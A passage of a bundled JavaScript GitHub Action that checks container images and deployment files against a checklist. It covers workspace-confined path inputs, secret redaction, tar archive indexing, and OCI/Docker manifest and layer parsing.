    return (0,parse/* parseChoice */.HU)(getOptionalInput(name) ?? fallback, choices, `input ${name}`);
}
function getJsonInput(name) {
    const value = getOptionalInput(name);
    if (value === undefined)
        return undefined;
    try {
        return JSON.parse(value);
    }
    catch (error) {
        throw new InputError(`input ${name}: not valid JSON (${error.message})`);
    }
}
/** The job's workspace (GITHUB_WORKSPACE; the current directory outside the runner). */
function workspaceDir() {
    return (0,external_node_path_.resolve)(process.env.GITHUB_WORKSPACE ?? process.cwd());
}
/** The runner's temp directory, where the actions write their reports by default. */
function runnerTempDir() {
    return (0,external_node_path_.resolve)(process.env.RUNNER_TEMP ?? process.cwd());
}
function isInside(path, root) {
    const rel = (0,external_node_path_.relative)(root, path);
    return rel === '' || (!rel.startsWith('..') && !(0,external_node_path_.isAbsolute)(rel));
}
/** The path with the symbolic links of its longest existing ancestor resolved. */
function realPath(path) {
    const rest = [];
    for (let head = path;; head = (0,external_node_path_.dirname)(head)) {
        try {
            return (0,external_node_path_.join)((0,external_node_fs_.realpathSync)(head), ...rest);
        }
        catch {
            if ((0,external_node_path_.dirname)(head) === head)
                return path;
            rest.unshift((0,external_node_path_.basename)(head));
        }
    }
}
function getPathInput(name, options = {}) {
    const value = options.required ? getRequiredInput(name) : (getOptionalInput(name) ?? options.fallback);
    if (value === undefined)
        return undefined;
    const workspace = workspaceDir();
    const roots = options.output || options.report ? [workspace, runnerTempDir()] : [workspace];
    const path = (0,external_node_path_.resolve)(workspace, value);
    const inside = roots.some((root) => isInside(path, root) && isInside(realPath(path), realPath(root)));
    if (!inside) {
        throw new util_errors/* InputError */.dz(`input ${name}: ${value} is outside the workspace (${workspace}${roots.length > 1 ? ` or RUNNER_TEMP ${roots[1]}` : ''}); give a path inside it`);
    }
    return path;
}
/** An input renamed: the new name, else the deprecated one with a warning saying what to write. */
function getRenamedInput(name, deprecated) {
    const value = getOptionalInput(name);
    const old = getOptionalInput(deprecated);
    if (old !== undefined) {
        core.warning(`input ${deprecated} is deprecated: use ${name}${value !== undefined ? ` (both given; ${name} wins)` : ''}`);
    }
    return value ?? old;
}
/**
 * Registry access shared by every action that reads or pushes images: the `registry` host the
 * explicit credentials are bound to, the credentials, the `github-token` for ghcr.io, insecure
 * registries and DOCKER_CONFIG as the CLI honours it. Secrets are masked first.
 */
function getRegistryInputs() {
    const password = getSecretInput('registry-password');
    const githubToken = getSecretInput('github-token') ?? process.env.GITHUB_TOKEN;
    const username = getOptionalInput('registry-username');
    const credentialHost = getOptionalInput('registry');
    if (username !== undefined && password === undefined)
        throw new util_errors/* InputError */.dz('input registry-username: given without registry-password');
    return {
        insecureRegistries: getListInput('insecure-registries'),
        credentialHost: credentialHost === undefined ? undefined : (0,reference/* canonicalRegistry */.i7)(credentialHost, 'input registry'),
        username,
        password,
        githubToken,
        dockerConfigPath: process.env.DOCKER_CONFIG ? (0,external_node_path_.join)(process.env.DOCKER_CONFIG, 'config.json') : undefined,
    };
}

;// CONCATENATED MODULE: ./src/actions/run-action.ts
/**
 * Everything an action lets out of the process goes through here, and through the scan's
 * redaction first: log lines, annotations, outputs, the job summary, report files and the final
 * error. A secret the image carries (set in ENV, used inline in a RUN step) never leaves whole.
 */





/** The engine's logger for actions: runner log commands, redacted. */
const actionLogger = {
    debug: (m) => lib_core.debug((0,redact_text/* redactText */.iB)(m)),
    info: (m) => lib_core.info((0,redact_text/* redactText */.iB)(m)),
    warning: (m) => lib_core.warning((0,redact_text/* redactText */.iB)(m)),
    error: (m) => lib_core.error((0,redact_text/* redactText */.iB)(m)),
};
/** An annotation (error, warning or notice), redacted, anchored to a file and line when known. */
function annotate(level, message, properties = {}) {
    const props = { ...properties, ...(properties.title ? { title: (0,redact_text/* redactText */.iB)(properties.title) } : {}) };
    lib_core[level]((0,redact_text/* redactText */.iB)(message), props);
}
/** Sets every output in one loop, redacted; objects and arrays are serialised as JSON. */
function setOutputs(outputs) {
    for (const [name, value] of Object.entries(outputs)) {
        if (value === undefined)
            continue;
        lib_core.setOutput(name, typeof value === 'object' ? JSON.stringify((0,redact_text/* redactDeep */.KL)(value)) : (0,redact_text/* redactText */.iB)(String(value)));
    }
}
/** Appends Markdown (already escaped by its renderer) to the job summary, redacted. */
async function writeSummary(markdown) {
    await lib_core.summary.addRaw((0,redact_text/* redactText */.iB)(markdown), true).write();
}
/**
 * Writes a JSON report, redacted: the text as a whole, and value by value where redacting the
 * serialised text would break it (a secret whose redacted form ends inside an escape).
 */
function writeJsonReport(path, value) {
    const text = redactText(JSON.stringify(value, null, 2));
    let safe = text;
    try {
        JSON.parse(text);
    }
    catch {
        safe = JSON.stringify(redactDeep(value), null, 2);
    }
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, `${safe}\n`);
}
/** One phase of the step's log, folded in the runner's log view. */
function group(name, body) {
    return lib_core.group((0,redact_text/* redactText */.iB)(name), body);
}
/**
 * The one catch at the top of every action: a known error becomes `setFailed(message)` with the
 * stack in debug only; an unknown one keeps its stack so a bug can be reported. Both redacted.
 */
async function runAction(body) {
    try {
        await body();
    }
    catch (error) {
        if ((0,util_errors/* isKnownError */.ux)(error)) {
            if (error.stack)
                lib_core.debug((0,redact_text/* redactText */.iB)(error.stack));
            lib_core.setFailed((0,redact_text/* redactText */.iB)(error.message));
        }
        else if (error instanceof Error) {
            lib_core.setFailed((0,redact_text/* redactText */.iB)(error.stack ?? error.message));
        }
        else {
            lib_core.setFailed((0,redact_text/* redactText */.iB)(String(error)));
        }
    }
}

;// CONCATENATED MODULE: ./src/actions/checklist.ts
/** actions/checklist: inputs → the checklist gate → outputs, the Markdown checklist in the summary, annotations on the lines. */








const SOURCES = ['spec', 'dockerfile', 'image', 'compose', 'manifests', 'workflows', 'scan-report', 'health-report'];
/** One entry of a list input of paths, refused when it (or a link on its way) leads outside the workspace. */
function workspacePath(name, value, workspace) {
    const path = (0,external_node_path_.resolve)(workspace, value);
    const root = (0,external_node_fs_.realpathSync)(workspace);
    const real = (0,external_node_fs_.existsSync)(path) ? (0,external_node_fs_.realpathSync)(path) : (0,external_node_path_.resolve)(root, value);
    const inside = (rel) => rel === '' || (!rel.startsWith('..') && !(0,external_node_path_.isAbsolute)(rel));
    if (!inside((0,external_node_path_.relative)(workspace, path)) || !inside((0,external_node_path_.relative)(root, real)))
        throw new util_errors/* InputError */.dz(`input ${name}: ${value} is outside the workspace (${workspace}); give a path inside it`);
    return path;
}
function getInputs() {
    // Secrets first: masked before anything else can print them, whether or not an image is read.
    const registry = getRegistryInputs();
    const workspace = workspaceDir();
    const temp = runnerTempDir();
    const spec = getPathInput('spec');
    const given = SOURCES.some((name) => getOptionalInput(name) !== undefined);
    const defaultSpec = getPathInput('spec', { fallback: 'mcp-deploy.yml' });
    if (!given && !(0,external_node_fs_.existsSync)(defaultSpec)) {
        throw new util_errors/* InputError */.dz(`Input required and not supplied: spec (no mcp-deploy.yml in the workspace; or give any of ${SOURCES.slice(1).join(', ')})`);
    }
    const image = getOptionalInput('image');
    const list = (name) => getListInput(name).map((p) => workspacePath(name, p, workspace));
    return {
        workspace,
        spec,
        specOptional: true,
        dockerfile: getPathInput('dockerfile'),
        image,
        imageOptions: image ? { platform: getOptionalInput('platform') ?? 'linux/amd64', registry, logger: actionLogger, tempDir: temp } : undefined,
        compose: list('compose'),
        manifests: list('manifests'),
        render: getOptionalInput('render') === undefined ? undefined : getChoiceInput('render', ['kubernetes'], 'kubernetes'),
        pushedDigest: getOptionalInput('pushed-digest'),
        workflows: getPathInput('workflows'),
        scanReport: getPathInput('scan-report', { report: true }),
        healthReport: getPathInput('health-report', { report: true }),
        failOn: getChoiceInput('fail-on', ['error', 'warning', 'note', 'none'], 'error'),
        exemptions: getPathInput('exemptions'),
        disallowExemptions: getBooleanInput('disallow-exemptions', false),
        reportFile: getPathInput('report-file', { output: true }) ?? (0,external_node_path_.join)(temp, 'mcp-orchestrator-checklist.json'),
        sarifFile: getPathInput('sarif-file', { output: true }) ?? (0,external_node_path_.join)(temp, 'mcp-orchestrator-checklist.sarif'),
        logger: actionLogger,
    };
}
async function run() {
    await runAction(async () => {
        const options = getInputs();
        const outcome = await group('Checklist', () => runChecklistGate(options));
        const { result } = outcome;
        for (const a of annotationsOf(result))
            annotate(a.level, a.message, { title: a.title, ...(a.file ? { file: a.file, startLine: a.startLine } : {}) });
        await writeSummary(renderMarkdown(result));
        setOutputs({ passed: result.counts.passed, failed: result.counts.failed, 'report-file': options.reportFile, 'sarif-file': options.sarifFile });
        if (result.failed) {
            const failing = result.results.filter((r) => r.verdict === 'failed' && engine_failsAt(r.rule.severity, result.failOn)).map((r) => r.rule.id);
            throw new util_errors/* GateFailure */.In(`checklist failed at ${result.failOn}: ${failing.join(', ')}; see the job summary and ${options.reportFile}`);
        }
        actionLogger.info(`Checklist passed at ${result.failOn}: ${result.counts.passed} passed, ${result.counts.exempted} exempted, ${result.counts['not-checked']} not checked.`);
    });
}


/***/ }),

/***/ 14862:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   v: () => (/* binding */ parseYamlDocuments)
/* harmony export */ });
/* harmony import */ var yaml__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(38815);
/* harmony import */ var _util_errors_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(70017);
/**
 * YAML files as located documents: every document of a (multi-document) file, its plain value,
 * and `locate(path)` giving the line and column of any node, so a rule's evidence points at the
 * line a person would edit.
 */


function locator(doc, file, lineCounter) {
    return (path) => {
        // The nearest existing ancestor: a missing field points at the object that should carry it.
        for (let n = path.length; n >= 0; n--) {
            const node = n === 0 ? doc.contents : doc.getIn(path.slice(0, n), true);
            const range = node?.range;
            if (node && range && (n === 0 || (0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .isCollection */ .P3)(node) || typeof node === 'object')) {
                const { line, col } = lineCounter.linePos(range[0]);
                return { file, line, column: col };
            }
        }
        return { file };
    };
}
/**
 * Parses `text` (named `file` in locations and errors) into located documents; empty documents are
 * skipped. YAML 1.1 by default, as kubectl and Compose read their files; workflows pass '1.2'.
 */
function parseYamlDocuments(text, file, version = '1.1') {
    const lineCounter = new yaml__WEBPACK_IMPORTED_MODULE_0__/* .LineCounter */ .HN();
    const docs = (0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .parseAllDocuments */ .hR)(text, { lineCounter, prettyErrors: false, version, uniqueKeys: false });
    if (!Array.isArray(docs))
        return [];
    const out = [];
    docs.forEach((doc, index) => {
        const error = doc.errors[0];
        if (error)
            throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz(`${file}:${lineCounter.linePos(error.pos[0]).line}: invalid YAML: ${error.message.split('\n')[0]}`);
        const value = doc.toJS({ maxAliasCount: 100 });
        if (value === null || value === undefined)
            return;
        out.push({ file, index, value, locate: locator(doc, file, lineCounter) });
    });
    return out;
}


/***/ }),

/***/ 54798:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   J: () => (/* binding */ ArchiveIndex)
/* harmony export */ });
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(51455);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var _util_errors_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(70017);
/* harmony import */ var _tar_header_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(20262);
/**
 * Random access to the members of a tar archive on disk (docker-archive, oci-archive).
 * Hand-written: tar-stream reads sequentially and exposes no offsets, and reading a multi-GB
 * archive through it once per member is far slower than walking the 512-byte headers with
 * positioned reads and opening each member as a file stream at its offset.
 */




function normaliseName(name) {
    return name.replace(/^\.\//, '').replace(/\/+$/, '');
}
class ArchiveIndex {
    path;
    display;
    members;
    constructor(path, display, members) {
        this.path = path;
        this.display = display;
        this.members = members;
    }
    static async build(path, display) {
        let handle;
        try {
            handle = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.open)(path, 'r');
        }
        catch (error) {
            throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .InputError */ .dz(`${display}: cannot open ${path} (${error.code ?? error.message})`);
        }
        try {
            const size = (await handle.stat()).size;
            return new ArchiveIndex(path, display, await walk(handle, size, display));
        }
        finally {
            await handle.close();
        }
    }
    get(name) {
        return this.members.get(normaliseName(name));
    }
    names() {
        return [...this.members.keys()];
    }
    require(name, what) {
        const member = this.get(name);
        if (!member)
            throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .InputError */ .dz(`${this.display}: ${what} "${name}" is missing from the archive`);
        return member;
    }
    openMember(member) {
        if (member.size === 0)
            return (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.createReadStream)(this.path, { start: 1, end: 0 });
        return (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.createReadStream)(this.path, { start: member.offset, end: member.offset + member.size - 1, highWaterMark: 1024 * 1024 });
    }
    async readMember(member, maxBytes, what) {
        if (member.size > maxBytes)
            throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .InputError */ .dz(`${this.display}: ${what} "${member.name}" is ${member.size} bytes, over the ${maxBytes}-byte limit for JSON documents`);
        const handle = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_1__.open)(this.path, 'r');
        try {
            const buf = Buffer.alloc(member.size);
            const { bytesRead } = await handle.read(buf, 0, member.size, member.offset);
            if (bytesRead !== member.size)
                throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .InputError */ .dz(`${this.display}: ${what} "${member.name}" is truncated`);
            return buf;
        }
        finally {
            await handle.close();
        }
    }
}
async function walk(handle, fileSize, display) {
    const members = new Map();
    const header = Buffer.alloc(_tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .BLOCK */ .IE);
    let offset = 0;
    let longName;
    let paxPath;
    while (offset + _tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .BLOCK */ .IE <= fileSize) {
        const { bytesRead } = await handle.read(header, 0, _tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .BLOCK */ .IE, offset);
        if (bytesRead < _tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .BLOCK */ .IE)
            break;
        if ((0,_tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .isZeroBlock */ .ei)(header))
            return members;
        if (!(0,_tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .checksumOk */ .eu)(header))
            throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .InputError */ .dz(`${display}: tar header at byte ${offset} has a bad checksum (corrupt or not a tar archive)`);
        const size = (0,_tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .readNumber */ .kz)(header, 124, 12);
        if (Number.isNaN(size))
            throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .InputError */ .dz(`${display}: tar header at byte ${offset} has an invalid size field (corrupt or not a tar archive)`);
        const typeflag = String.fromCharCode(header[156] || 48);
        const dataOffset = offset + _tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .BLOCK */ .IE;
        if (dataOffset + size > fileSize)
            throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .InputError */ .dz(`${display}: archive is truncated (member at byte ${offset} needs ${size} bytes, the file ends first)`);
        if (typeflag === 'L' || typeflag === 'x') {
            const data = Buffer.alloc(size);
            await handle.read(data, 0, size, dataOffset);
            if (typeflag === 'L')
                longName = (0,_tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .readString */ .E3)(data, 0, size);
            else
                paxPath = /(?:^|\n)\d+ path=([^\n]*)\n/.exec(data.toString('utf8'))?.[1];
        }
        else {
            const prefix = header.subarray(257, 262).toString() === 'ustar' ? (0,_tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .readString */ .E3)(header, 345, 155) : '';
            const base = (0,_tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .readString */ .E3)(header, 0, 100);
            const name = normaliseName(paxPath ?? longName ?? (prefix ? `${prefix}/${base}` : base));
            longName = paxPath = undefined;
            members.set(name, { name, offset: dataOffset, size, type: typeflag });
        }
        offset = dataOffset + Math.ceil(size / _tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .BLOCK */ .IE) * _tar_header_js__WEBPACK_IMPORTED_MODULE_3__/* .BLOCK */ .IE;
    }
    if (members.size === 0)
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .InputError */ .dz(`${display}: not a tar archive (no member found)`);
    throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .InputError */ .dz(`${display}: archive is truncated (no end-of-archive marker)`);
}


/***/ }),

/***/ 86575:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   E: () => (/* binding */ maskBuildArgs),
/* harmony export */   F: () => (/* binding */ parseImageConfig)
/* harmony export */ });
/* harmony import */ var _util_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(70017);
/** The image config document: what the reader reports, with build history mapped to layers. */

const NANOS_PER_MS = 1_000_000;
function parseImageConfig(bytes, where) {
    let raw;
    try {
        raw = JSON.parse(bytes.toString('utf8'));
    }
    catch (error) {
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: image config is not valid JSON (${error.message})`);
    }
    if (typeof raw !== 'object' || raw === null)
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: image config is not a JSON object`);
    const c = (raw.config ?? raw.container_config ?? {});
    const rootfs = (raw.rootfs ?? {});
    const diffIds = Array.isArray(rootfs.diff_ids) ? rootfs.diff_ids.filter((d) => typeof d === 'string') : [];
    const hc = c.Healthcheck;
    return {
        env: stringArray(c.Env),
        labels: c.Labels ?? {},
        entrypoint: nullableStringArray(c.Entrypoint),
        cmd: nullableStringArray(c.Cmd),
        user: typeof c.User === 'string' ? c.User : '',
        workingDir: typeof c.WorkingDir === 'string' ? c.WorkingDir : '',
        exposedPorts: Object.keys(c.ExposedPorts ?? {}),
        healthcheck: hc?.Test
            ? {
                test: hc.Test,
                interval: hc.Interval ? hc.Interval / NANOS_PER_MS : undefined,
                timeout: hc.Timeout ? hc.Timeout / NANOS_PER_MS : undefined,
                retries: hc.Retries,
            }
            : null,
        history: mapHistory(Array.isArray(raw.history) ? raw.history : [], diffIds.length),
        diffIds,
        os: typeof raw.os === 'string' ? raw.os : '',
        architecture: typeof raw.architecture === 'string' ? raw.architecture : '',
        raw,
    };
}
/** Non-empty history steps map, in order, onto layers; empty-layer steps keep no layer index. */
function mapHistory(history, layerCount) {
    let next = 0;
    return history.map((h) => {
        const entry = { createdBy: h.created_by ?? '', emptyLayer: Boolean(h.empty_layer) };
        if (h.created)
            entry.created = h.created;
        if (h.comment)
            entry.comment = h.comment;
        if (!entry.emptyLayer && next < layerCount)
            entry.layerIndex = next++;
        return entry;
    });
}
function stringArray(value) {
    return Array.isArray(value) ? value.filter((v) => typeof v === 'string') : [];
}
function nullableStringArray(value) {
    return Array.isArray(value) ? stringArray(value) : null;
}
/**
 * Masks the values of build arguments recorded in a history step (`|2 TOKEN=abc X=1 /bin/sh -c …`
 * becomes `|2 TOKEN=*** X=*** /bin/sh -c …`): they are often credentials, and reports repeat
 * created_by strings.
 */
function maskBuildArgs(createdBy) {
    const m = /^\|(\d+)\s+/.exec(createdBy);
    if (!m)
        return createdBy;
    let rest = createdBy.slice(m[0].length);
    const masked = [];
    for (let i = 0; i < Number(m[1]); i++) {
        const arg = /^([A-Za-z_][A-Za-z0-9_]*)=((?:"[^"]*"|'[^']*'|\S)*)\s*/.exec(rest);
        if (!arg)
            break;
        masked.push(`${arg[1]}=***`);
        rest = rest.slice(arg[0].length);
    }
    return `|${m[1]} ${masked.join(' ')} ${rest}`;
}


/***/ }),

/***/ 13347:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   w: () => (/* binding */ FilesystemIndex)
/* harmony export */ });
function ancestorsOf(path) {
    const result = [];
    for (let i = path.indexOf('/', 1); i > 0; i = path.indexOf('/', i + 1))
        result.push(path.slice(0, i));
    return result;
}
class FilesystemIndex {
    listings;
    layers = [];
    constructor(listings) {
        this.listings = listings;
        const sorted = [...listings].sort((a, b) => a.index - b.index);
        for (const listing of sorted) {
            this.layers[listing.index] = {
                types: new Map(listing.entries.map((e) => [e.path, e.type])),
                whiteouts: new Set(listing.whiteouts),
                opaque: new Set(listing.opaqueDirs),
            };
        }
    }
    /** Whether `path`, as layer `layerIndex` holds it, is still there in the final filesystem. */
    isPresent(path, layerIndex) {
        const own = this.layers[layerIndex]?.types.get(path);
        const ancestors = ancestorsOf(path);
        for (let j = layerIndex + 1; j < this.layers.length; j++) {
            const later = this.layers[j];
            if (!later)
                continue;
            if (later.whiteouts.has(path))
                return false;
            const laterType = later.types.get(path);
            if (laterType !== undefined && !(laterType === 'directory' && own === 'directory'))
                return false;
            for (const ancestor of ancestors) {
                if (later.whiteouts.has(ancestor) || later.opaque.has(ancestor))
                    return false;
                const t = later.types.get(ancestor);
                if (t !== undefined && t !== 'directory')
                    return false;
            }
            if (later.opaque.has('/') && path !== '/')
                return false;
        }
        return true;
    }
    /** Every path a layer holds that the final filesystem does not, in layer order. */
    deleted() {
        const result = [];
        this.layers.forEach((layer, index) => {
            for (const path of layer.types.keys()) {
                if (!this.isPresent(path, index))
                    result.push({ path, layer: index });
            }
        });
        return result;
    }
}


/***/ }),

/***/ 20596:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Bq: () => (/* binding */ formatPlatform),
/* harmony export */   FL: () => (/* binding */ parsePlatform),
/* harmony export */   HL: () => (/* binding */ manifestAcceptTypes),
/* harmony export */   Qz: () => (/* binding */ parseManifestDocument),
/* harmony export */   md: () => (/* binding */ selectPlatform)
/* harmony export */ });
/* unused harmony export MediaType */
/* harmony import */ var _util_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(70017);
/** Manifest and index documents (Docker schema 2 and OCI), and platform selection. */

const MediaType = {
    ociIndex: 'application/vnd.oci.image.index.v1+json',
    ociManifest: 'application/vnd.oci.image.manifest.v1+json',
    ociConfig: 'application/vnd.oci.image.config.v1+json',
    ociLayer: 'application/vnd.oci.image.layer.v1.tar',
    ociLayerGzip: 'application/vnd.oci.image.layer.v1.tar+gzip',
    ociLayerZstd: 'application/vnd.oci.image.layer.v1.tar+zstd',
    dockerManifestList: 'application/vnd.docker.distribution.manifest.list.v2+json',
    dockerManifest: 'application/vnd.docker.distribution.manifest.v2+json',
    dockerConfig: 'application/vnd.docker.container.image.v1+json',
    dockerLayerGzip: 'application/vnd.docker.image.rootfs.diff.tar.gzip',
};
const manifestAcceptTypes = [MediaType.ociIndex, MediaType.ociManifest, MediaType.dockerManifestList, MediaType.dockerManifest];
const DIGEST = /^sha256:[0-9a-f]{64}$/;
function parseJson(bytes, where) {
    let value;
    try {
        value = JSON.parse(bytes.toString('utf8'));
    }
    catch (error) {
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: invalid JSON (${error.message})`);
    }
    if (typeof value !== 'object' || value === null || Array.isArray(value))
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: expected a JSON object`);
    return value;
}
function parseDescriptor(value, where) {
    const d = value;
    if (!d || typeof d !== 'object')
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: expected a descriptor object`);
    if (typeof d.digest !== 'string' || !DIGEST.test(d.digest))
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: digest ${JSON.stringify(d.digest)} is not a sha256 digest`);
    if (typeof d.size !== 'number' || d.size < 0)
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: size missing or negative`);
    return {
        mediaType: typeof d.mediaType === 'string' ? d.mediaType : '',
        digest: d.digest,
        size: d.size,
        platform: d.platform,
        annotations: d.annotations,
    };
}
/** Parses a manifest or an index, validating the fields the reader relies on. */
function parseManifestDocument(bytes, where, mediaTypeHint) {
    const doc = parseJson(bytes, where);
    const mediaType = (typeof doc.mediaType === 'string' && doc.mediaType) || mediaTypeHint || '';
    if (doc.schemaVersion === 1)
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: Docker schema 1 manifests are not supported (re-push the image with a current client)`);
    if (Array.isArray(doc.manifests) || mediaType === MediaType.ociIndex || mediaType === MediaType.dockerManifestList) {
        if (!Array.isArray(doc.manifests))
            throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: index without a "manifests" array`);
        return { kind: 'index', mediaType, manifests: doc.manifests.map((m, i) => parseDescriptor(m, `${where}: manifests[${i}]`)) };
    }
    if (!doc.config)
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: manifest without "config"`);
    if (!Array.isArray(doc.layers))
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: manifest without a "layers" array`);
    return {
        kind: 'manifest',
        mediaType: mediaType || MediaType.ociManifest,
        config: parseDescriptor(doc.config, `${where}: config`),
        layers: doc.layers.map((l, i) => parseDescriptor(l, `${where}: layers[${i}]`)),
    };
}
function parsePlatform(text) {
    const [os, architecture, variant, ...rest] = text.split('/');
    if (!os || !architecture || rest.length > 0)
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`platform "${text}": expected os/arch[/variant], e.g. linux/amd64`);
    return variant ? { os, architecture, variant } : { os, architecture };
}
function formatPlatform(p) {
    return [p.os, p.architecture, p.variant].filter(Boolean).join('/');
}
/** Picks the manifest for a platform; `linux/arm64` matches `linux/arm64/v8` when no variant is asked. */
function selectPlatform(index, wanted, where) {
    const candidates = index.manifests.filter((m) => m.platform && m.platform.os === wanted.os && m.platform.architecture === wanted.architecture);
    const match = wanted.variant ? candidates.find((m) => m.platform?.variant === wanted.variant) : (candidates.find((m) => !m.platform?.variant) ?? candidates[0]);
    if (match)
        return match;
    const available = index.manifests
        .filter((m) => m.platform && m.platform.os !== 'unknown')
        .map((m) => formatPlatform(m.platform));
    throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${where}: no image for platform ${formatPlatform(wanted)}; the index has ${available.length ? available.join(', ') : 'no platforms'}`);
}


/***/ }),

/***/ 5711:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  U: () => (/* binding */ openImage)
});

// UNUSED EXPORTS: defaultLimits

// EXTERNAL MODULE: ./src/util/logger.ts
var util_logger = __webpack_require__(96618);
// EXTERNAL MODULE: ./src/image/config.ts
var image_config = __webpack_require__(86575);
// EXTERNAL MODULE: ./src/image/filesystem-index.ts
var filesystem_index = __webpack_require__(13347);
// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
// EXTERNAL MODULE: external "node:stream"
var external_node_stream_ = __webpack_require__(57075);
// EXTERNAL MODULE: external "node:stream/promises"
var promises_ = __webpack_require__(46466);
// EXTERNAL MODULE: ./src/util/errors.ts
var errors = __webpack_require__(70017);
// EXTERNAL MODULE: external "node:zlib"
var external_node_zlib_ = __webpack_require__(38522);
// EXTERNAL MODULE: ./node_modules/fzstd/esm/index.mjs
var esm = __webpack_require__(68339);
;// CONCATENATED MODULE: ./src/image/decompress.ts
/**
 * Layer decompression told apart by magic bytes (media types lie in the wild): gzip, zstd or a
 * plain tar. zstd uses node:zlib where the running Node has it (22.15+, 24), fzstd otherwise.
 */



function detectCompression(head) {
    if (head.length >= 2 && head[0] === 0x1f && head[1] === 0x8b)
        return 'gzip';
    if (head.length >= 4 && head.readUInt32LE(0) === 0xfd2fb528)
        return 'zstd';
    return 'none';
}
/** A pure-JS zstd stream for Node versions without zlib's. */
class FzstdStream extends external_node_stream_.Transform {
    decoder = new esm/* Decompress */.YM((chunk) => this.push(Buffer.from(chunk.buffer, chunk.byteOffset, chunk.byteLength)));
    _transform(chunk, _enc, done) {
        try {
            this.decoder.push(chunk);
            done();
        }
        catch (error) {
            done(error);
        }
    }
    _flush(done) {
        try {
            this.decoder.push(new Uint8Array(0), true);
            done();
        }
        catch (error) {
            done(error);
        }
    }
}
/**
 * zlib's output chunk: 1 MiB rather than the default 16 KiB or 128 KiB means a few hundred
 * callbacks into JavaScript per layer instead of thousands (bench/scan.mjs measures the sizes
 * for its floor; from 256 KiB up they cost about the same).
 */
const DECOMPRESS_CHUNK = 1024 * 1024;
function createDecompressor(kind) {
    if (kind === 'gzip')
        return external_node_zlib_.createGunzip({ chunkSize: DECOMPRESS_CHUNK });
    if (kind === 'zstd') {
        const native = external_node_zlib_.createZstdDecompress;
        return native ? native() : new FzstdStream();
    }
    return null;
}
